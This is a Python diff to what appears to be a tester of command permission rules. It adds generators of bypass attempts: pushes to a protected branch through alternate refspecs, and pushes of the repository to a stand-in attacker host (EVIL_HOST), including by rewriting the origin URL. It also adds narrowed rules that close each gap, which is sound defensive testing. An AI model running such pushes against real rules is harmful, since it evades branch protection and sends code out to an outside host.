@@ -142,6 +142,8 @@ def attempts_at_commands(attacked: Attacked) -> Iterator[Attempt]:
         yield from _over_the_network(attacked, one)
         yield from _more_than_read(attacked, one)
         yield from _by_operand(attacked, one)
+        yield from _to_branch(attacked, one)
+        yield from _to_another_remote(attacked, one)
         yield from _hidden_path(attacked, one)
         yield from _whole_folder(attacked, one)
 
@@ -475,6 +477,89 @@ def _no_operand(attacked: Attacked, one: CallField, sign: str) -> Sequence[Effec
         texts = [("in", text(each), value) for each in (f" {sign}", *options)]
         closing = joined("and", [("in", text("push"), value), joined("or", texts)])
     return [narrower(attacked.rule, given(attacked, one, closing))]
+
+
+def _to_branch(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
+    """Another way by which git pushes to a branch that a rule closes by its name."""
+    if not attacked.passes(_with(attacked, one, "git push origin topic")):
+        return
+    words = [word for bare in attacked.texts for word in bare.split()]
+    named = (word for word in dict.fromkeys((*words, *_BRANCHES)) if re.fullmatch(r"\w[\w./-]*", word))
+    branch = next(
+        (each for each in named if attacked.stops(_with(attacked, one, f"git push origin {each}"))), ""
+    )
+    if not branch:
+        return
+    texts = [each.format(branch=branch) for each in _PUSHES]
+    tries = tries_with(attacked, one, texts, f"git pushes to {branch} by it, where that is checked out")
+    rewritings = partial(_closed_pushes, attacked, one, _pushing_to(branch))
+    yield Attempt("branch", tries, rewritings, declaring(attacked, one, "command"), about=branch)
+
+
+_BRANCHES = ("main", "master")
+_PUSHES = (
+    "git push origin HEAD:{branch}", "git push origin HEAD:refs/heads/{branch}", "git push origin +{branch}",
+    "git push origin refs/heads/{branch}", "git push origin HEAD", "git push --all origin",
+    "git push --mirror origin", "git push origin :", "git push origin", "git push",
+)  # fmt: skip
+"""Commands that push to the branch which is checked out, and may be told to push to another."""
+
+
+def _pushing_to(branch: str) -> Tree:
+    """That a push, called "p", may go to a branch: it names it, another name for it, all, or none."""
+    word, words = ("name", "w"), ("attr", ("name", "p"), "words")
+    ends = [("method", word, "endswith", text(f"{sign}{branch}")) for sign in (":", "/")]
+    begins = [("method", word, "startswith", text(sign)) for sign in ("+", ":")]
+    names = [among(word, [branch, "HEAD", "@"]), *ends, *begins, ("in", text("*"), word)]
+    named: Tree = ("call", "any", ("gen", word, joined("or", names), words, TRUE))
+    others: list[Tree] = [("not", ("method", word, "startswith", text("-")))]
+    others += [
+        among(word, ["push", "origin"], negative=True),
+        ("!=", word, ("attr", ("name", "p"), "second")),
+    ]
+    none: Tree = ("not", ("call", "any", ("gen", word, joined("and", others), words, TRUE)))
+    options = [("in", text(each), ("attr", ("name", "p"), "options")) for each in ("--all", "--mirror")]
+    return joined("or", [named, none, *options])
+
+
+def _closed_pushes(attacked: Attacked, one: CallField, condition: Tree, *more: Tree) -> Sequence[Effect]:
+    """The rule that also stops a push, called "p", of which a condition holds, and what else is given."""
+    if not is_typed(one):
+        return []
+    program: Tree = ("name", "p")
+    pushes = [
+        ("==", ("attr", program, name), text(value)) for name, value in (("name", "git"), ("first", "push"))
+    ]
+    said = joined("and", [*pushes, condition])
+    closing: Tree = ("call", "any", ("gen", program, said, part(attacked, one, "started"), TRUE))
+    return [narrower(attacked.rule, given(attacked, one, joined("or", [closing, *more])))]
+
+
+def _to_another_remote(attacked: Attacked, one: CallField) -> Iterator[Attempt]:
+    """A push to another repository, where a rule lets git push to a remote by its name."""
+    url = f"https://{EVIL_HOST}/x.git"
+    push = next((each for each in _TO_ORIGIN if attacked.passes(_with(attacked, one, each))), "")
+    if not push or not attacked.stops(_with(attacked, one, f"git push {url} topic")):
+        return
+    changes = [
+        f"git remote {does} {url}" for does in ("set-url origin", "set-url --push origin", "add other")
+    ]
+    why = f"the push goes to {EVIL_HOST}"
+    texts = [f"git push {url} origin", f"{changes[0]} && {push}"]
+    tries = [*tries_with(attacked, one, texts, why)]
+    tries += [Try((_with(attacked, one, each), _with(attacked, one, push)), why) for each in changes[:2]]
+    word: Tree = ("name", "w")
+    signs = [("in", text(each), word) for each in ("://", "@")]
+    paths = [("method", word, "startswith", text(each)) for each in ("/", ".", "~")]
+    elsewhere: Tree = ("gen", word, joined("or", [*signs, *paths]), ("attr", ("name", "p"), "words"), TRUE)
+    call: Tree = ("name", "c")
+    changed: Tree = ("gen", call, among(call, _OF_REMOTES), part(attacked, one, "calls"), TRUE)
+    rewritings = partial(_closed_pushes, attacked, one, ("call", "any", elsewhere), ("call", "any", changed))
+    yield Attempt("other remote", tries, rewritings, declaring(attacked, one, "command"), about=push)
+
+
+_TO_ORIGIN = ("git push origin topic", "git push origin main", "git push origin", "git push")
+_OF_REMOTES = ("git config", "git remote add", "git remote remove", "git remote rename", "git remote set-url")
 
 
 def _word_of(command: Sequence[str]) -> int:
